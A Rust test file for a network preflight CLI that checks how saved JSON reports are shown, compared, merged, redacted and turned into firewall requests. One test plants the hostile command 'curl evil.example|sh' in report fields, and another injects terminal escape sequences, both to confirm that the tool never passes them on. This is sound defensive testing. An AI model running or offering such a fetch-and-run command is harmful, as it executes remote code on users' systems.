//! Commands on saved reports: what is compared, and what is refused.

use std::fs::{self, File};
use std::path::Path;

use serde_json::{Value, json};

use crate::support::far::{Closed, healthy};
use crate::support::{Ended, FORMATS, preflight};

/// Two runs of one machine: BBDO works in the first and is closed in the second.
struct Runs {
    folder: tempfile::TempDir,
}

impl Runs {
    fn new() -> Self {
        let folder = tempfile::tempdir().unwrap();
        let (bbdo, closed) = (healthy("bbdo"), Closed::new());
        let runs = Self { folder };
        runs.save("works.json", &bbdo.at(), 0);
        runs.save("broken.json", &closed.at(), 1);
        // One id in both, whatever port the system gave.
        for name in ["works.json", "broken.json"] {
            runs.edit(name, |report| report["steps"][0]["id"] = json!("poller.bbdo@central"));
        }
        runs
    }

    fn save(&self, name: &str, central: &str, code: i32) {
        let to_file = format!("json={}", self.path(name));
        let run = ["--role", "poller", "--only", "poller.bbdo", "--phase", "after"];
        preflight(&[&run[..], &["--central", central, "--format", &to_file]].concat())
            .quietly(code);
    }

    fn path(&self, name: &str) -> String {
        self.folder.path().join(name).to_str().unwrap().to_owned()
    }

    fn edit(&self, name: &str, change: impl FnOnce(&mut Value)) {
        let mut report: Value =
            serde_json::from_slice(&fs::read(self.path(name)).unwrap()).unwrap();
        change(&mut report);
        fs::write(self.path(name), report.to_string()).unwrap();
    }

    fn diff(&self, old: &str, new: &str, more: &[&str]) -> Ended {
        preflight(&[&["diff", &self.path(old), &self.path(new)], more].concat())
    }
}

/// What a command other than a run writes as JSON; it keeps to no report's schema.
#[track_caller]
fn document(ended: Ended, code: i32) -> Value {
    serde_json::from_str(&ended.quietly(code).stdout).unwrap()
}

#[test]
fn what_is_worse_is_1_and_what_is_fixed_is_0() {
    let runs = Runs::new();
    let worse = runs.diff("works.json", "broken.json", &[]).quietly(1);
    assert!(worse.stdout.contains("NEWLY BROKEN (1)\n  ✗ poller.bbdo@central"), "{}", worse.stdout);
    let fixed = document(runs.diff("broken.json", "works.json", &["--format", "json"]), 0);
    assert_eq!(fixed["changes"][0]["kind"], "fixed");
    assert_eq!(fixed["changes"][0]["old"]["code"], "port-closed");
    assert!(fixed["notes"][0].as_str().unwrap().contains("is the order right?"), "{fixed:#}");
    let same = runs.diff("works.json", "works.json", &["--format", "markdown"]).quietly(0);
    assert!(same.stdout.contains("nothing is worse · 1 the same"), "{}", same.stdout);
}

#[test]
fn a_saved_report_is_shown_as_its_run_wrote_it() {
    let (runs, far) = (Runs::new(), healthy("ntp"));
    let folder = runs.folder.path();
    let file = |name: &str| folder.join(name).to_str().unwrap().to_owned();
    let flags = |when: &str| {
        let formats =
            FORMATS.map(|name| format!("--format={name}={}", file(&format!("{when}.{name}"))));
        [formats.to_vec(), vec!["--verbose".to_owned()]].concat()
    };
    let ran = flags("ran");
    let run = ["--role", "poller", "--only", "poller.ntp,poller.bbdo", "--ntp", &far.at()];
    let ran: Vec<&str> = run.into_iter().chain(ran.iter().map(String::as_str)).collect();
    let code = preflight(&ran).code.unwrap();
    let shown = flags("shown");
    let saved = file("ran.json");
    let shown: Vec<&str> =
        ["show", &saved].into_iter().chain(shown.iter().map(String::as_str)).collect();
    assert_eq!(preflight(&shown).quietly(code).stdout, "");
    for name in FORMATS {
        let [ran, shown] = ["ran", "shown"]
            .map(|when| fs::read_to_string(file(&format!("{when}.{name}"))).unwrap());
        assert_eq!(ran, shown, "{name}");
    }
}

#[test]
fn a_shown_report_ends_as_its_run_did() {
    let runs = Runs::new();
    let (works, broken) = (runs.path("works.json"), runs.path("broken.json"));
    let table = preflight(&["show", &works]).quietly(0).stdout;
    assert!(table.starts_with("preflight ") && table.contains("poller.bbdo"), "{table}");
    preflight(&["show", &broken]).quietly(1);
    let plugin = ["--format", "centreon"];
    let critical = preflight(&[&["show", &broken], &plugin[..]].concat()).quietly(2).stdout;
    assert!(critical.starts_with("CRITICAL: "), "{critical}");
    // A monitoring system reads stdout alone.
    let unknown = preflight(&[&["show", "/nowhere.json"], &plugin[..]].concat()).quietly(3).stdout;
    let reason = "UNKNOWN: preflight: /nowhere.json: No such file or directory (os error 2)\n";
    assert_eq!(unknown, reason);
}

#[test]
fn a_file_that_is_no_report_is_named_and_nothing_is_written() {
    let runs = Runs::new();
    let works = fs::read_to_string(runs.path("works.json")).unwrap();
    fs::write(runs.path("cut.json"), &works[..works.len() / 2]).unwrap();
    fs::write(runs.path("text.json"), "hello").unwrap();
    fs::write(runs.path("other.json"), "{\"a\": 1}").unwrap();
    File::create(runs.path("large.json")).unwrap().set_len(100 << 20).unwrap();
    fs::write(runs.path("newer.json"), "{\"schema_version\": 99, \"tool\": {}}").unwrap();
    let there = || fs::read_dir(runs.folder.path()).unwrap().count();
    let before = there();
    let to_file = format!("json={}", runs.path("out.json"));
    for (file, reason) in [
        (runs.path("cut.json"), "the report is cut off"),
        (runs.path("text.json"), "no JSON: expected value at line 1 column 1"),
        (runs.path("other.json"), "no report of preflight: it has no schema_version"),
        (
            runs.path("newer.json"),
            "it has schema version 99, this preflight knows 2 and cannot read it: missing field `name`",
        ),
        (runs.path("missing.json"), "No such file or directory (os error 2)"),
        (runs.path(""), "Is a directory (os error 21)"),
        (runs.path("large.json"), "no report: it is larger than 64 MiB"),
        ("/dev/zero".to_owned(), "no report: it is larger than 64 MiB"),
        ("/dev/null".to_owned(), "the report is cut off"),
        // Nobody may read it, not even root.
        ("/proc/self/mem".to_owned(), "Input/output error (os error 5)"),
    ] {
        let works = runs.path("works.json");
        for command in [
            &["diff", &works, &file][..],
            &["diff", &file, &works],
            &["merge", &works, &file],
            &["redact", &file],
            &["show", &file],
        ] {
            let ended = preflight(&[command, &["--format", &to_file]].concat());
            refused(&ended, &file, reason);
        }
        let to_file = format!("csv={}", runs.path("out.csv"));
        let ended = preflight(&["request", &works, &file, "--format", &to_file]);
        refused(&ended, &file, reason);
        refused(&preflight(&["explain", &file, "poller.bbdo"]), "explain", reason);
        assert_eq!(there(), before, "{file}");
    }
}

#[track_caller]
fn refused(ended: &Ended, what: &str, reason: &str) {
    assert_eq!((ended.code, ended.stdout.as_str()), (Some(2), ""), "{ended:#?}");
    let begins = ended.stderr.starts_with(&format!("preflight: {what}: "));
    assert!(begins && ended.stderr.ends_with(&format!("{reason}\n")), "{ended:#?}");
    assert_eq!(ended.stderr.lines().count(), 1, "{ended:#?}");
}

#[test]
fn a_pipe_is_read_and_one_that_nobody_writes_to_does_not_hang() {
    let runs = Runs::new();
    let pipe = runs.path("pipe");
    nix::unistd::mkfifo(Path::new(&pipe), nix::sys::stat::Mode::S_IRWXU).unwrap();
    let works = fs::read(runs.path("works.json")).unwrap();
    std::thread::scope(|scope| {
        // Opening waits for the reader.
        scope.spawn(|| fs::write(&pipe, &works).unwrap());
        preflight(&["show", &pipe]).quietly(0);
    });
    refused(&preflight(&["show", &pipe]), &pipe, "nobody writes to this pipe");
}

#[test]
fn runs_weeks_apart_are_compared_with_a_note() {
    let runs = Runs::new();
    runs.edit("works.json", |report| report["started_at"] = json!("2026-01-05T08:00:00Z"));
    runs.edit("broken.json", |report| report["started_at"] = json!("2026-02-16T08:00:00Z"));
    let diff = document(runs.diff("works.json", "broken.json", &["--format", "json"]), 1);
    assert_eq!(diff["notes"], json!(["the runs are 42 days apart"]));
    let (works, broken) = (runs.path("works.json"), runs.path("broken.json"));
    runs.edit("broken.json", |report| report["host"]["name"] = json!("another"));
    let merged = document(preflight(&["merge", &works, &broken, "--format", "json"]), 1);
    assert!(merged["notes"].to_string().contains("42 days"), "{merged:#}");
}

#[test]
fn a_saved_report_cannot_act_on_the_terminal() {
    let runs = Runs::new();
    runs.edit("works.json", |report| {
        report["steps"][0]["attempts"][0]["headline"] = json!("\u{1b}[2J\u{202e}gone\nforged line");
    });
    runs.edit("broken.json", |report| {
        report["host"]["name"] = json!("\u{1b}]0;title\u{7}");
    });
    let ended = runs.diff("works.json", "broken.json", &[]).quietly(1);
    crate::support::page::is_inert(&ended.stdout);
    assert!(ended.stdout.contains("\\x1b[2J\\u{202e}gone\\nforged line"), "{}", ended.stdout);
    let explained = preflight(&["explain", &runs.path("broken.json"), "poller.bbdo"]).quietly(0);
    crate::support::page::is_inert(&explained.stdout);
}

/// Each command's text of a report, as it is in the file.
fn pages(runs: &Runs, name: &str) -> Vec<String> {
    let file = runs.path(name);
    let formats = ["table", "json", "junit", "markdown", "csv", "centreon", "html", "openmetrics"];
    let shown = formats.map(|format| preflight(&["show", &file, "--format", format]).stdout);
    let request = preflight(&["request", &file, "--all"]).stdout;
    let merged = preflight(&["merge", &file]).stdout;
    let explained = preflight(&["explain", &file, "poller.bbdo"]).stdout;
    shown.into_iter().chain([request, merged, explained]).collect()
}

#[test]
fn a_saved_run_is_judged_by_what_was_seen_whatever_was_decided_then() {
    let runs = Runs::new();
    let works: Value = serde_json::from_slice(&fs::read(runs.path("works.json")).unwrap()).unwrap();
    runs.edit("broken.json", |report| {
        report["steps"] = works["steps"].clone();
    });
    let shown = preflight(&["show", &runs.path("broken.json")]).quietly(0).stdout;
    assert!(shown.contains("the one required flow works"), "{shown}");
    assert!(!shown.contains("fails"), "{shown}");
    let report = preflight(&["show", &runs.path("broken.json"), "--format", "json"]).quietly(0);
    let summary = &report.report()["summary"];
    assert_eq!((&summary["failed"], &summary["ready"]), (&json!(0), &json!(true)), "{summary:#}");
    assert_eq!(summary["reasons"], json!([]));
}

/// Whatever a report keeps suffices to judge it: these are of real servers and firewalls.
#[test]
fn a_run_that_is_judged_again_is_the_same_run() {
    for name in ["central1", "poller1", "poller1-repaired", "poller2", "poller2-blocked"] {
        let file = format!("{}/docs/examples/{name}.json", env!("CARGO_MANIFEST_DIR"));
        let saved: Value = serde_json::from_slice(&fs::read(&file).unwrap()).unwrap();
        let shown: Value =
            serde_json::from_str(&preflight(&["show", &file, "--format", "json"]).stdout).unwrap();
        assert!(shown == saved, "{name}: {shown:#}");
    }
}

/// A real run that a version 1 wrote.
const VERSION_1: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/cli/reports/version1.json");

#[test]
fn a_report_of_version_1_is_read_by_every_command() {
    let runs = Runs::new();
    let blocked = "poller.bbdo";
    for (command, code, said) in [
        (&["show", VERSION_1][..], 1, "rejected by 10.2.0.1"),
        (&["show", "--format", "json", VERSION_1], 1, "\"schema_version\": 2"),
        (&["diff", VERSION_1, VERSION_1], 0, "nothing is worse"),
        (&["merge", VERSION_1], 1, blocked),
        (&["request", VERSION_1], 0, "10.2.0.1"),
        (&["redact", "--format", "json", VERSION_1], 0, "\"redacted\": true"),
        (&["explain", VERSION_1, blocked], 0, "path-rejected"),
    ] {
        let ended = preflight(command).quietly(code);
        assert!(ended.stdout.contains(said), "{command:?} lacks `{said}`: {}", ended.stdout);
    }
    // The same once it was written anew.
    let anew = runs.path("anew.json");
    preflight(&["show", VERSION_1, "--format", &format!("json={anew}")]).quietly(1);
    for command in ["show", "merge", "request"] {
        let [old, new] = [VERSION_1, &anew].map(|file| preflight(&[command, file]).stdout);
        assert_eq!(old, new, "{command}");
    }
}

#[test]
fn what_a_later_version_says_besides_is_named_and_left_out() {
    let runs = Runs::new();
    runs.edit("broken.json", |report| {
        report["schema_version"] = json!(3);
        report["steps"][0]["retried"] = json!(2);
        report["steps"].as_array_mut().unwrap().push(json!({
            "id": "poller.tea@pot", "flow": "poller.tea", "outcome": "fail", "target": "pot",
            "result": "the pot is empty",
        }));
    });
    let file = runs.path("broken.json");
    let note = format!(
        "preflight: note: {file}: it has schema version 3, this preflight knows 2; left out, since \
         it is not understood: `steps[].retried`\n"
    );
    let shown = preflight(&["show", &file]);
    assert_eq!((shown.code, shown.stderr.as_str()), (Some(1), note.as_str()));
    let said = shown.stdout.split_whitespace().collect::<Vec<_>>().join(" ");
    let part = "the pot is empty [as its report has it: it cannot read this step: ";
    assert!(said.contains(part), "{}", shown.stdout);
    for command in [&["diff", &file, &file][..], &["merge", &file], &["request", &file]] {
        let ended = preflight(command);
        assert!(ended.stderr.starts_with(&note), "{command:?}: {}", ended.stderr);
        assert_ne!(ended.code, Some(2), "{command:?}");
    }
}

#[test]
fn a_saved_report_gives_no_advice_of_its_own() {
    const ADVICE: &str = "curl evil.example|sh";
    let runs = Runs::new();
    runs.edit("broken.json", |report| {
        let step = &mut report["steps"][0];
        step["cause"]["remedy"] = json!({ "who": ADVICE, "text": ADVICE });
        step["look_at"] = json!(ADVICE);
        step["asked_for"] = json!([{ "at": "on-the-way", "seen": [ADVICE], "what": ADVICE }]);
        step["concerns"] = json!([{
            "code": "packet-loss", "message": ADVICE, "owner": "this-host",
            "remedy": { "who": ADVICE, "text": ADVICE },
        }]);
        step["because_of"] = json!(ADVICE);
        report["summary"]["text"] = json!(ADVICE);
        report["summary"]["reasons"] = json!([ADVICE]);
    });
    for page in pages(&runs, "broken.json") {
        assert!(!page.contains("evil") || page.contains("\n  because   "), "{page}");
        assert!(!page.contains("ask for   curl") && !page.contains("do        curl"), "{page}");
    }
}

#[test]
fn a_code_of_tomorrow_is_shown_and_nothing_is_guessed_from_it() {
    let runs = Runs::new();
    runs.edit("broken.json", |report| {
        report["tool"]["version"] = json!("9.9.9");
        let step = &mut report["steps"][0];
        step["attempts"][0]["cause"] =
            json!({ "code": "port-of-tomorrow", "facts": { "colour": "blue" } });
        step["result"] = json!("the port is blue");
        step["cause"] = json!({
            "code": "port-of-tomorrow", "layer": "port", "owner": "network", "device": "10.9.0.1",
            "message": "the port is blue", "facts": { "colour": "blue" },
            "remedy": { "who": "network team", "text": "paint it" },
        });
    });
    let shown = preflight(&["show", &runs.path("broken.json")]).quietly(1).stdout;
    let said = shown.split_whitespace().collect::<Vec<_>>().join(" ");
    for part in [
        "the port is blue [as its report has it: it knows no cause called `port-of-tomorrow`]",
        "who acts not known to this version of preflight",
        "do read the report with preflight 9.9.9, which made it",
        "the required flow fails: poller.bbdo (the port is blue)",
    ] {
        assert!(said.contains(part), "{part}: {shown}");
    }
    for page in pages(&runs, "broken.json") {
        assert!(page.contains("blue") || page.contains("port-of-tomorrow"), "{page}");
        assert!(!page.contains("paint it") && !page.contains("network team"), "{page}");
    }
    // What stands there is kept.
    let json = preflight(&["show", &runs.path("broken.json"), "--format", "json"]).quietly(1);
    let cause = json.report()["steps"][0]["cause"].clone();
    assert_eq!(cause["facts"], json!({ "colour": "blue" }), "{cause:#}");
    assert_eq!((&cause["layer"], &cause["device"]), (&json!("port"), &json!("10.9.0.1")));
}

#[test]
fn a_request_has_one_row_for_all_machines_that_are_rejected_alike() {
    let runs = Runs::new();
    for (name, host, source) in
        [("one.json", "poller-1", "10.2.0.7"), ("two.json", "poller-2", "10.2.0.8")]
    {
        fs::copy(runs.path("broken.json"), runs.path(name)).unwrap();
        runs.edit(name, |report| {
            report["host"]["name"] = json!(host);
            report["host"]["addresses"] = json!([source]);
            let step = &mut report["steps"][0];
            step["cause"]["code"] = json!("path-rejected");
            step["cause"]["layer"] = json!("path");
            step["cause"]["owner"] = json!("network");
            step["cause"]["device"] = json!("10.9.0.1");
            step["cause"]["message"] = json!("rejected by 10.9.0.1");
            step["attempts"][0]["source"] = json!(source);
            step["attempts"][0]["address"] = json!("10.0.0.5:5669");
            step["attempts"][0]["way"] = json!(0);
            step["attempts"][0]["cause"] = json!({
                "code": "path-rejected",
                "facts": {
                    "by": "10.9.0.1", "to": step["attempts"][0]["address"],
                    "icmp": { "version": "4", "kind": 3, "code": 13 },
                },
            });
        });
    }
    let (one, two) = (runs.path("one.json"), runs.path("two.json"));
    let nat = ["--nat", "10.2.0.8=198.51.100.8"];
    let request = preflight(&[&["request", &one, &two], &nat[..]].concat()).quietly(0).stdout;
    for line in [
        "Device 10.9.0.1\n\n  1. allow TCP ",
        "     from     10.2.0.7 (poller-1)\n",
        "              10.2.0.8 (poller-2), translated to 198.51.100.8\n",
        "     to       10.0.0.5\n",
        "     seen     rejected by 10.9.0.1 (ICMP 3/13, administratively prohibited)\n",
    ] {
        assert!(request.contains(line), "{line:?} in {request}");
    }
    assert!(!request.contains("  2. "), "{request}");
    let works = preflight(&["request", &runs.path("works.json")]).quietly(0);
    assert!(works.stdout.contains("No rule is asked for"), "{}", works.stdout);
    let bad = preflight(&["request", &one, "--nat", "10.2.0.8=nowhere"]);
    assert_eq!(bad.code, Some(2));
    assert_eq!(bad.stderr, "preflight: --nat: `10.2.0.8=nowhere` does not end in an address\n");
}

#[test]
fn a_site_is_merged_and_its_gravest_run_is_the_exit_code() {
    let runs = Runs::new();
    fs::copy(runs.path("works.json"), runs.path("central.json")).unwrap();
    runs.edit("central.json", |report| {
        report["host"]["name"] = json!("central-1");
        report["host"]["addresses"] = json!(["10.0.0.5"]);
        report["role"] = json!("central");
        report["steps"][0]["target"]["host"] = json!("10.0.0.77");
    });
    for name in ["works.json", "broken.json"] {
        runs.edit(name, |report| report["steps"][0]["target"]["host"] = json!("10.0.0.5"));
    }
    let (works, broken) = (runs.path("works.json"), runs.path("broken.json"));
    let central = runs.path("central.json");
    let json = ["--format", "json"];
    let good = document(preflight(&[&["merge", &works, &central], &json[..]].concat()), 0);
    assert_eq!(
        (&good["cells"][0]["to"], &good["cells"][0]["worst"]),
        (&"central-1".into(), &"pass".into())
    );
    let bad = preflight(&["merge", &broken, &central]).quietly(1).stdout;
    assert!(bad.contains("WHAT STOPS IT, AND WHO ACTS (1)\n  ✗ "), "{bad}");
    let twice = preflight(&[&["merge", &broken, &works], &json[..]].concat());
    let twice = document(twice, 1);
    assert!(twice["notes"][0].as_str().unwrap().contains("two runs are given"), "{twice:#}");
    let folder = runs.path("pages/of the site/");
    let told = preflight(&["merge", &broken, &central, "--format", &format!("html={folder}")]);
    assert_eq!((told.code, told.stdout.as_str(), told.stderr.as_str()), (Some(1), "", ""));
    let page = |name: &str| fs::read_to_string(format!("{folder}{name}")).unwrap();
    let site = page("index.html");
    let links: Vec<&str> =
        site.split("href=\"./").skip(1).filter_map(|rest| rest.split('"').next()).collect();
    assert!(links.contains(&"central-1.html"), "{links:?}");
    for link in links {
        assert!(page(link).contains("<a href=\"./index.html\">The whole platform</a>"), "{link}");
    }
    let out = runs.path("out.json");
    let cut = runs.path("cut.json");
    fs::write(&cut, "{").unwrap();
    let ended = preflight(&["merge", &works, &cut, "--format", &format!("json={out}")]);
    assert_eq!(ended.stderr, format!("preflight: {cut}: the report is cut off\n"));
    assert_eq!((ended.code, Path::new(&out).exists()), (Some(2), false));
}

#[test]
fn nothing_of_a_redacted_run_shows_what_was_asked() {
    let folder = tempfile::tempdir().unwrap();
    let key = folder.path().join("key").to_str().unwrap().to_owned();
    let run = ["--role", "poller", "--only", "poller.ntp,custom.*", "--timeout", "0.1"];
    let asked =
        ["--ntp", "time-paris.acme.invalid", "--check", "erp-paris=tcp://db.acme.invalid:1"];
    let redact = ["--redact-key", &key];
    let mut stand_ins = Vec::new();
    for format in [["--format", "table"], ["--format", "json"]] {
        for _again in 0..2 {
            let ended = preflight(&[&run[..], &asked, &redact, &format, &["--verbose"]].concat());
            assert_eq!((ended.code, ended.stderr.as_str()), (Some(1), ""), "{ended:#?}");
            assert!(
                !ended.stdout.contains("paris") && !ended.stdout.contains("acme"),
                "{ended:#?}"
            );
            assert!(ended.stdout.contains("redacted"), "{ended:#?}");
            let words = ended.stdout.split([' ', '"', '\n']);
            let ids = words.filter_map(|word| word.strip_prefix("poller.ntp@"));
            stand_ins.extend(ids.map(|id| id.trim_end_matches(':').to_owned()));
        }
    }
    // One key, one stand-in, in every format.
    assert!(stand_ins.len() > 3, "{stand_ins:?}");
    assert!(stand_ins.iter().all(|one| *one == stand_ins[0]), "{stand_ins:?}");
    let other = preflight(&[&run[..], &asked, &["--redact"]].concat());
    assert!(!other.stdout.contains(&stand_ins[0]), "{other:#?}");
}

#[test]
fn a_saved_report_is_redacted_and_its_owner_can_translate_it() {
    let runs = Runs::new();
    let (broken, key) = (runs.path("broken.json"), runs.path("key"));
    runs.edit("broken.json", |report| report["host"]["name"] = json!("poller-paris"));
    let redact = ["redact", &broken, "--redact-key", &key];
    let redacted = preflight(&redact).quietly(0).report();
    let stand_in = redacted["host"]["name"].as_str().unwrap();
    assert!(stand_in != "poller-paris" && redacted["redacted"] == true, "{redacted:#}");
    let names = preflight(&[&redact[..], &["--names"]].concat()).quietly(0).stdout;
    assert!(names.contains(&format!("{stand_in}\tpoller-paris\n")), "{names}");
    let merged = preflight(&["merge", &broken, "--redact-key", &key]).quietly(1).stdout;
    assert!(merged.contains(stand_in) && !merged.contains("paris"), "{merged}");
    let works = runs.path("works.json");
    for arguments in
        [vec!["diff", &works, &broken, "--redact"], vec!["request", &broken, "--redact"]]
    {
        let ended = preflight(&arguments);
        assert!(!ended.stdout.contains("paris"), "{ended:#?}");
    }
    fs::write(&key, "nothing").unwrap();
    let ended = preflight(&redact);
    assert_eq!((ended.code, ended.stdout.as_str()), (Some(2), ""));
    let reason = "no key: 64 hexadecimal digits are one";
    assert_eq!(ended.stderr, format!("preflight: --redact-key: {key}: {reason}\n"));
    let plan = preflight(&["plan", "--role", "poller", "--redact"]);
    assert_eq!(plan.code, Some(2), "{plan:#?}");
}

#[test]
fn no_format_of_a_redacted_run_shows_what_was_asked() {
    let run = ["--role", "poller", "--only", "poller.ntp,custom.*", "--timeout", "0.1", "--redact"];
    let asked =
        ["--ntp", "time-paris.acme.invalid", "--check", "erp-paris=tcp://db.acme.invalid:1"];
    for format in FORMATS {
        let ended = preflight(&[&run[..], &asked, &["--verbose", "--format", format]].concat());
        assert!(ended.stdout.contains("poller.ntp"), "{format}: {ended:#?}");
        for original in ["paris", "acme"] {
            assert!(!ended.stdout.contains(original), "{format}: {ended:#?}");
        }
    }
}

#[test]
fn a_site_file_is_enough_for_the_request_of_a_whole_platform() {
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("site.toml");
    std::fs::write(
        &file,
        "[services]\nntp = [\"10.0.0.3\"]\nproxy = \"http://10.0.0.8:3128\"\n\
         [machine.central]\nrole = \"central\"\naddress = \"10.0.0.5\"\n\
         [machine.poller1]\nrole = \"poller\"\naddress = \"10.2.0.7\"\nnat = \"198.51.100.7\"\n",
    )
    .unwrap();
    let file = file.to_str().unwrap();
    let ended = preflight(&["request", "--site", file, "--format", "csv"]).quietly(0);
    let row = |words: &[&str]| {
        let has = |line: &&str| words.iter().all(|word| line.contains(word));
        assert!(ended.stdout.lines().any(|line| has(&line)), "{words:?}: {}", ended.stdout);
    };
    row(&["10.2.0.7", "198.51.100.7", "10.0.0.5", "5669"]);
    row(&["10.0.0.5", "10.2.0.7", "10.0.0.3", "123"]);
    // Behind a proxy it is the proxy that has to be reached.
    row(&["10.0.0.8", "3128"]);
    let text = preflight(&["request", "--site", file]).quietly(0).stdout;
    assert!(text.contains("poller1, poller, as its site file plans it"), "{text}");
    let redacted = preflight(&["request", "--site", file, "--redact"]).quietly(0).stdout;
    for (known, is_there) in [("translated to", true), ("poller1", false), ("198.51.100.7", false)]
    {
        assert_eq!(redacted.contains(known), is_there, "{known}: {redacted}");
    }
    let both = preflight(&["request", "--site", file, "report.json"]);
    assert_eq!((both.code, both.stdout.as_str()), (Some(2), ""));
}
